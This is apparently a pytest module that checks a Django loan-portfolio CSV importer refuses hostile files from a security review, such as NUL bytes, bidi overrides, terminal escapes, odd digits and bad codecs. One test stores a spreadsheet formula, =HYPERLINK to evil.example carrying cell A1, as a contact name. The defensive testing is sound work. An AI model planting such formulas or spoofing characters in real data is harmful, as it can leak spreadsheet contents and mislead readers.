"""The hostile files of the security review (docs: ../shared/reviews/security-review-2026-12-03.md,
section 6, findings F10-F13), each as the review wrote it: every one that crashed the import or
slipped through is now refused with its line, column and reason, and leaves nothing behind."""

import datetime
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from loans.imports import portfolio_import
from loans.imports.reader import _Lines
from loans.models import Borrower, Contact, ImportRun, Installment, Loan, Payment
from loans.phones import mask_phone
from loans.validators import mask_national_id
from tests.accounts.factories import UserFactory
from tests.loans.factories import BorrowerFactory, LoanFactory, ProductFactory, national_id

pytestmark = pytest.mark.usefixtures("in_english")

LOAN_HEADER = (
    "account_number,national_id,borrower_name,date_of_birth,province,city,address,product_code,"
    "principal,annual_rate,disbursed_on,term_months"
)
SCHEDULE_HEADER = "account_number,sequence,due_date,principal_due,interest_due,fees_due,penalty_due"
PAYMENT_HEADER = "account_number,reference,amount,received_at,channel,source"
CONTACT_HEADER = "national_id,kind,value,name,relation,verification,do_not_contact"

ID_A = national_id(910_001)
STORED_ID = "310104198511110026"  # the review's borrower 1654


def full_width(text: str) -> str:
    """ASCII letters, digits and signs as their full-width forms, as a Chinese keyboard types them."""
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text)


def loan_line(
    account="FZ-1",
    nid=ID_A,
    name="王芳",
    *,
    birth="1988-03-12",
    address="",
    product="CONSUMER",
    principal="1200.00",
    rate="0.1200",
    disbursed="2026-01-15",
    term="3",
):
    cells = [account, nid, name, birth, "北京市", "北京市", address, product, principal, rate, disbursed, term]
    return ",".join(f'"{cell}"' if any(c in cell for c in ',"\n\r') else cell for cell in cells)


def csv_of(header, *rows):
    return "\n".join([header, *rows]) + "\n"


@pytest.fixture
def importer(db):
    return UserFactory(username="importer", roles=["admin"])


@pytest.fixture
def product(db):
    return ProductFactory(code="CONSUMER", grace_days=0)


@pytest.fixture
def loan(product):
    """FZP-1: 300.00 over three months, disbursed 2026-01-15, with its schedule."""
    loan = LoanFactory(
        account_number="FZP-1",
        principal=Decimal("300.00"),
        term_months=3,
        disbursed_on=datetime.date(2026, 1, 15),
        product=product,
        installments=False,
    )
    for sequence in (1, 2, 3):
        Installment.objects.create(
            loan=loan,
            sequence=sequence,
            due_date=datetime.date(2026, 1 + sequence, 15),
            principal_due=Decimal("100.00"),
            interest_due=Decimal("10.00"),
        )
    return loan


def fingerprint():
    """What the review compared before and after each file."""
    return (
        Borrower.objects.count(),
        Loan.objects.count(),
        Installment.objects.count(),
        Payment.objects.count(),
        Contact.objects.count(),
        sorted(Installment.objects.values_list("pk", "principal_paid", "interest_paid", "is_paid")),
        sorted(Loan.objects.values_list("pk", "outstanding_principal", "updated_at")),
    )


def run(kind, data, *, by, encoding="auto"):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return portfolio_import(stream=io.BytesIO(data), kind=kind, by=by, encoding=encoding)


def refused(kind, data, *, by, encoding="auto"):
    """Import `data`, expecting a refusal that leaves the database as it was; the errors as text."""
    before = fingerprint()
    result = run(kind, data, by=by, encoding=encoding)
    assert not result.ok
    assert fingerprint() == before
    assert ImportRun.objects.latest("pk").outcome == ImportRun.Outcome.REFUSED
    return [str(error) for error in result.errors]


# ---------------------------------------------------------------------------------------------
# Files that crashed the import (F11) or slipped through (F12), by the review's numbers
# ---------------------------------------------------------------------------------------------

LOAN_FILES = [
    pytest.param(
        loan_line(account="FZ\x00NUL"),
        'line 2, column account_number: "FZ\\x00NUL" holds a control character (U+0000) at character 3',
        id="10_nul_bytes-account",
    ),
    pytest.param(
        loan_line(name="王\x00芳"),
        'line 2, column borrower_name: "王\\x00芳" holds a control character (U+0000) at character 2',
        id="10_nul_bytes-name",
    ),
    pytest.param(
        loan_line(account="FZ\nNL"),
        'line 2, column account_number: "FZ\\nNL" holds a line break at character 3; it must be one line',
        id="17_quoted_newline_in_key",
    ),
    pytest.param(
        loan_line(disbursed="0001-01-01"),
        'line 2, column disbursed_on: "0001-01-01" is outside the dates a portfolio file may hold '
        "(1990-01-01 to 2100-12-31)",
        id="28_date_year1-disbursed",
    ),
    pytest.param(
        loan_line(birth="0001-01-01"),
        'line 2, column date_of_birth: "0001-01-01" is outside the dates a portfolio file may hold '
        "(1900-01-01 to 2100-12-31)",
        id="28_date_year1-birth",
    ),
    pytest.param(
        loan_line(nid="1101051990010112²X"),
        'line 2, column national_id: "1101**********12²X": A national ID number has 17 digits',
        id="32_superscript_in_national_id",
    ),
    pytest.param(
        loan_line(term="1²"),
        'line 2, column term_months: "1²" is not a whole number from 1 to 32767',
        id="34_superscript_term",
    ),
    pytest.param(
        loan_line(term="①"),
        'line 2, column term_months: "①" is not a whole number from 1 to 32767',
        id="35_circled_digit_term",
    ),
    pytest.param(
        loan_line(name="\u202eنيمأ王芳"),
        'line 2, column borrower_name: "\\u202eنيمأ王芳" holds a character that changes the direction text is '
        "shown in (U+202E) at character 1",
        id="39_rtl_override_name",
    ),
    pytest.param(
        loan_line(address="朝阳区\u2066建国路\u2069"),
        "line 2, column address: ",
        id="39_rtl_isolate_address",
    ),
    pytest.param(
        loan_line(account="FZ\u200b1"),
        'line 2, column account_number: "FZ\\u200b1" holds an invisible or unassigned character (U+200B) '
        "at character 3",
        id="zero_width_space_in_account",
    ),
    pytest.param(
        loan_line(principal="١٢٠٠"),
        'line 2, column principal: "١٢٠٠" is not an amount',
        id="arabic_indic_digits_amount",
    ),
    pytest.param(
        loan_line(rate="٠.١"),
        'line 2, column annual_rate: "٠.١" is not an annual rate',
        id="arabic_indic_digits_rate",
    ),
    pytest.param(
        loan_line(disbursed="٢٠٢٦-01-15"),
        'line 2, column disbursed_on: "٢٠٢٦-01-15" is not a date',
        id="arabic_indic_digits_date",
    ),
    pytest.param(
        loan_line(name="\x1b[2J王芳"),
        'line 2, column borrower_name: "\\x1b[2J王芳" holds a control character (U+001B) at character 1',
        id="terminal_escape_in_name",
    ),
]


@pytest.mark.parametrize(("line", "expected"), LOAN_FILES)
def test_a_hostile_loans_file_is_refused_with_line_column_and_reason(importer, product, line, expected):
    errors = refused("loans", csv_of(LOAN_HEADER, loan_line("FZ-0", national_id(910_002)), line), by=importer)

    assert len(errors) == 1, errors
    assert errors[0].startswith(expected.replace("line 2", "line 3")), errors


def test_a_bad_full_width_national_id_is_refused_without_echoing_it(importer, product):
    """33_fullwidth_national_id echoed the whole number in the error (F10)."""
    wrong_check = full_width(STORED_ID[:17]) + "9"

    errors = refused("loans", csv_of(LOAN_HEADER, loan_line(nid=wrong_check)), by=importer)

    assert errors == [
        'line 2, column national_id: "3101**********0029": The check digit of this national ID number is wrong.'
    ]
    assert STORED_ID[:17] not in errors[0]


def test_a_full_width_national_id_is_the_same_borrower_not_a_second_one(importer, product):
    """33b_fullwidth_nid_ascii_check made borrower 1664 ３１０１…6 beside 1654 310104198511110026."""
    stored = BorrowerFactory(national_id=STORED_ID, name="王芳", province="北京市", city="北京市")
    full_width_id = full_width(STORED_ID[:17]) + STORED_ID[17]

    result = run("loans", csv_of(LOAN_HEADER, loan_line("FZ-33B", full_width_id, birth="")), by=importer)

    assert result.ok, [str(error) for error in result.errors]
    assert list(Borrower.objects.values_list("national_id", flat=True)) == [STORED_ID]
    assert Loan.objects.get(account_number="FZ-33B").borrower == stored


def test_a_full_width_account_number_is_the_same_account(importer, product):
    result = run("loans", csv_of(LOAN_HEADER, loan_line("FZ-7"), loan_line(full_width("FZ-7"))), by=importer)

    assert [str(error) for error in result.errors] == [
        "line 3, column account_number: account FZ-7 is already on line 2"
    ]


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        pytest.param(
            "FZP-1,¹²,2026-05-15,100.00,0.00,0.00,",
            'line 2, column sequence: "¹²" is not a whole number',
            id="53_sched_seq_superscript",
        ),
        pytest.param(
            "FZP-1,4,9999-12-31,100.00,0.00,0.00,",
            'line 2, column due_date: "9999-12-31" is outside the dates a portfolio file may hold',
            id="57_sched_year9999",
        ),
        pytest.param(
            "FZP-1\x00,4,2026-05-15,100.00,0.00,0.00,",
            'line 2, column account_number: "FZP-1\\x00" holds a control character',
            id="10_nul_bytes-schedule",
        ),
    ],
)
def test_a_hostile_schedule_file_is_refused(importer, loan, row, expected):
    errors = refused("schedule", csv_of(SCHEDULE_HEADER, row), by=importer)

    assert len(errors) == 1 and errors[0].startswith(expected), errors


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        pytest.param(
            "FZP-1,P-65,10.00,0001-01-01 00:00+09:00,app,",
            'line 2, column received_at: "0001-01-01 00:00+09:00" is outside the dates a portfolio file may hold',
            id="65_pay_year1_offset",
        ),
        pytest.param(
            "FZP-1,P-65,10.00,2026-03-01 00:00+23:59,app,",
            'line 2, column received_at: "2026-03-01 00:00+23:59" has a UTC offset beyond ±14:00',
            id="offset_beyond_14_hours",
        ),
        pytest.param(
            "FZP-1,FZP1900,10.00,1900-01-01,app,",
            'line 2, column received_at: "1900-01-01" is outside the dates a portfolio file may hold',
            id="72_pay_before_disbursal_1900",
        ),
        pytest.param(
            "FZP-1,P-72,10.00,2026-01-14 23:59,app,",
            "line 2, column received_at: 2026-01-14 23:59:00+08:00 is before the loan was disbursed on 2026-01-15",
            id="72_pay_before_disbursal",
        ),
        pytest.param(
            "FZP-1,P\u202e-1,10.00,2026-03-01 10:00,app,",
            'line 2, column reference: "P\\u202e-1" holds a character that changes the direction',
            id="bidi_in_reference",
        ),
    ],
)
def test_a_hostile_payments_file_is_refused(importer, loan, row, expected):
    errors = refused("payments", csv_of(PAYMENT_HEADER, row), by=importer)

    assert len(errors) == 1 and errors[0].startswith(expected), errors


def test_a_formula_payment_reference_is_stored_as_written_and_attributed(importer, loan):
    """71_pay_formula_reference: stored verbatim (an export must neutralise it, docs/csv-formats.md),
    no longer with recorded_by NULL."""
    result = run("payments", csv_of(PAYMENT_HEADER, "FZP-1,=1+2,10.00,2026-03-01 10:00,app,"), by=importer)

    assert result.ok
    assert Payment.objects.values_list("reference", "recorded_by").get() == ("=1+2", importer.pk)


def test_formula_cells_are_stored_as_written(importer, product):
    """36_formula_injection and 88_contact_formula_name: stored verbatim, see the module cells.py."""
    name = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    result = run("loans", csv_of(LOAN_HEADER, loan_line(name="@SUM(1+1)王", address="+1-1")), by=importer)
    assert result.ok
    borrower = Borrower.objects.get()
    contacts = run(
        "contacts",
        csv_of(CONTACT_HEADER, f'{ID_A},emergency,13800138000,"{name.replace(chr(34), chr(34) * 2)}",,,'),
        by=importer,
    )

    assert contacts.ok, [str(error) for error in contacts.errors]
    assert (borrower.name, borrower.address) == ("@SUM(1+1)王", "+1-1")
    assert Contact.objects.get().name == name


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        pytest.param(f"{ID_A},mobile,138\x000013 8000,,,,", "holds a control character (U+0000)", id="nul_in_phone"),
        pytest.param(
            f"{ID_A},emergency,13800138000,\u202e王建国,,,", "changes the direction", id="bidi_in_contact_name"
        ),
        pytest.param(f"{ID_A},mobile,1380013800,,,,", "138***3800 is not a valid phone number.", id="phone_masked"),
    ],
)
def test_a_hostile_contacts_file_is_refused(importer, row, expected):
    BorrowerFactory(national_id=ID_A)

    errors = refused("contacts", csv_of(CONTACT_HEADER, row), by=importer)

    assert len(errors) == 1 and expected in errors[0], errors
    assert "1380013800" not in errors[0]


# ---------------------------------------------------------------------------------------------
# Encodings (files 90-95): the command and the service refuse codecs that cannot read a CSV file
# ---------------------------------------------------------------------------------------------

CODECS = [
    pytest.param("zlib_codec", id="90_zlib_codec"),
    pytest.param("rot13", id="91_rot13"),
    pytest.param("base64", id="92_base64"),
    pytest.param("utf-16", id="94_utf16_no_bom"),
    pytest.param("hex", id="95_hex"),
    pytest.param("utf-32", id="utf32"),
    pytest.param("cp500", id="ebcdic"),
    pytest.param("unicode_escape", id="unicode_escape"),
]


@pytest.mark.parametrize("codec", CODECS)
def test_a_codec_that_cannot_read_csv_is_refused_by_the_command(importer, tmp_path, codec):
    path = tmp_path / "loans.csv"
    path.write_bytes(csv_of(LOAN_HEADER, loan_line()).encode("utf-16-le"))

    with pytest.raises(CommandError, match=f"{codec} cannot read a CSV file"):
        call_command("import_portfolio", "--by", importer.username, str(path), "--encoding", codec)

    assert not Loan.objects.exists()


@pytest.mark.parametrize("codec", CODECS)
def test_a_codec_that_cannot_read_csv_is_refused_by_the_service(importer, codec):
    errors = refused("loans", csv_of(LOAN_HEADER, loan_line()).encode("utf-16-le"), by=importer, encoding=codec)

    assert errors == [
        f"{codec} cannot read a CSV file (it is not a text encoding in which commas and line breaks are "
        "ASCII); use UTF-8 or GB18030."
    ]


def test_a_codec_failing_otherwise_than_on_a_byte_is_an_error_on_its_line(importer, monkeypatch):
    """Whatever a text codec raises while reading (UnicodeError, ValueError, LookupError) is an error
    naming the line, not a traceback: here idna, which refuses an empty label."""
    errors = refused("loans", b"xn--99999999.a\n", by=importer, encoding="idna")

    assert len(errors) == 1 and errors[0].startswith("line 1: the file cannot be read as idna ("), errors


# ---------------------------------------------------------------------------------------------
# Size (F13, files 96-98): a long line is refused as soon as the cap is read, linearly
# ---------------------------------------------------------------------------------------------


class CountingStream(io.BytesIO):
    def __init__(self, data):
        super().__init__(data)
        self.read_bytes = 0

    def read(self, size=-1):
        block = super().read(size)
        self.read_bytes += len(block)
        return block


def test_a_32_mb_line_without_a_line_break_is_refused_naming_its_line(importer, product):
    data = (LOAN_HEADER + "\n").encode() + b"x" * (32 * 1024 * 1024)
    stream = CountingStream(data)
    before = fingerprint()

    result = portfolio_import(stream=stream, kind="loans", by=importer)

    assert [str(error) for error in result.errors] == [
        "line 2: the line is longer than 1048576 bytes; no row of a portfolio file is that long"
    ]
    assert fingerprint() == before
    # Refused once the cap was read, not after reading all 32 MB.
    assert stream.read_bytes < 2 * settings.DESK_IMPORT_MAX_LINE_BYTES


def test_the_line_cap_is_a_setting(importer, product, settings):
    settings.DESK_IMPORT_MAX_LINE_BYTES = 200
    long_address = "朝阳区" * 40  # 360 bytes in UTF-8

    result = run("loans", csv_of(LOAN_HEADER, loan_line("FZ-1"), loan_line("FZ-2", address=long_address)), by=importer)

    assert [str(error) for error in result.errors] == [
        "line 3: the line is longer than 200 bytes; no row of a portfolio file is that long"
    ]


@pytest.mark.parametrize("block", [1, 3, 7, 64])
def test_lines_across_read_blocks_are_read_whole_up_to_the_cap(monkeypatch, block):
    from loans.imports import reader

    monkeypatch.setattr(reader, "READ_BLOCK", block)
    lines = [b"a" * length + b"\n" for length in (0, 1, 9, 19, 5)] + [b"tail"]
    data = b"".join(lines)

    read = list(_Lines(io.BytesIO(data[4:]), data[:4], "utf-8-sig", max_line=20)._byte_lines())

    assert read == lines
    with pytest.raises(reader.LineTooLong) as too_long:
        list(_Lines(io.BytesIO(data[4:]), data[:4], "utf-8-sig", max_line=19)._byte_lines())
    assert too_long.value.line == 4


def test_the_admin_refuses_an_upload_above_the_cap(client, settings, db):
    settings.DESK_IMPORT_MAX_UPLOAD_BYTES = 100
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    stream = io.BytesIO(csv_of(LOAN_HEADER, loan_line()).encode())
    stream.name = "loans.csv"

    response = client.post(
        reverse("admin:loans_loan_import_portfolio"), {"file": stream, "kind": "loans", "encoding": "auto"}
    )

    assert response.status_code == 200
    assert "the largest file the admin imports is 100\xa0bytes" in response.context["form"].errors["file"][0]
    assert not ImportRun.objects.exists()


# ---------------------------------------------------------------------------------------------
# Through the admin: the files that gave HTTP 500 (10, 32, 34, 35, 53, 65)
# ---------------------------------------------------------------------------------------------


ADMIN_FILES = [
    pytest.param("loans", csv_of(LOAN_HEADER, loan_line(account="FZ\x00NUL")), "account_number", id="10_nul_bytes"),
    pytest.param("loans", csv_of(LOAN_HEADER, loan_line(nid="1101051990010112²X")), "national_id", id="32"),
    pytest.param("loans", csv_of(LOAN_HEADER, loan_line(term="1²")), "term_months", id="34"),
    pytest.param("loans", csv_of(LOAN_HEADER, loan_line(term="①")), "term_months", id="35"),
    pytest.param("schedule", csv_of(SCHEDULE_HEADER, "FZP-1,¹²,2026-05-15,1.00,0,0,"), "sequence", id="53"),
    pytest.param(
        "payments", csv_of(PAYMENT_HEADER, "FZP-1,P-65,10.00,0001-01-01 00:00+09:00,app,"), "received_at", id="65"
    ),
]


@pytest.mark.parametrize(("kind", "text", "column"), ADMIN_FILES)
def test_the_files_that_gave_500_through_the_admin_show_their_error(client, loan, kind, text, column):
    user = UserFactory(is_staff=True, is_superuser=True)
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    stream = io.BytesIO(text.encode())
    stream.name = f"{kind}.csv"
    before = fingerprint()

    response = client.post(
        reverse("admin:loans_loan_import_portfolio"), {"file": stream, "kind": kind, "encoding": "auto"}
    )

    assert response.status_code == 200
    errors_table = response.content.decode().split('id="import-errors"')[1].split("</table>")[0]
    assert f"<td>2</td><td>{column}</td>" in errors_table
    assert fingerprint() == before
    run_row = ImportRun.objects.get()
    assert (run_row.ran_by, run_row.via, run_row.outcome) == (user, "admin", "refused")


def test_a_superscript_national_id_in_the_borrower_admin_is_a_form_error(client, db):
    """POST /admin/loans/borrower/add/ national_id=1101051990010112²X gave 500 (F11)."""
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"

    response = client.post(
        reverse("admin:loans_borrower_add"),
        {
            "name": "王芳",
            "national_id": "1101051990010112²X",
            "time_zone": "Asia/Shanghai",
            "contacts-TOTAL_FORMS": "0",
            "contacts-INITIAL_FORMS": "0",
        },
    )

    assert response.status_code == 200
    assert response.context["adminform"].form.errors["national_id"] == [
        "A national ID number has 17 digits and a final digit or X."
    ]
    assert not Borrower.objects.exists()


# ---------------------------------------------------------------------------------------------
# The masks
# ---------------------------------------------------------------------------------------------


def test_masks_keep_only_what_tells_numbers_apart():
    assert mask_national_id("110105199001011234") == "1101**********1234"
    assert mask_phone("13812345678") == "138****5678"
    assert mask_phone("+8613812345678") == "+86138****5678"
    assert mask_phone("12345") == "***45"
    assert mask_national_id("1234567") == "*******"
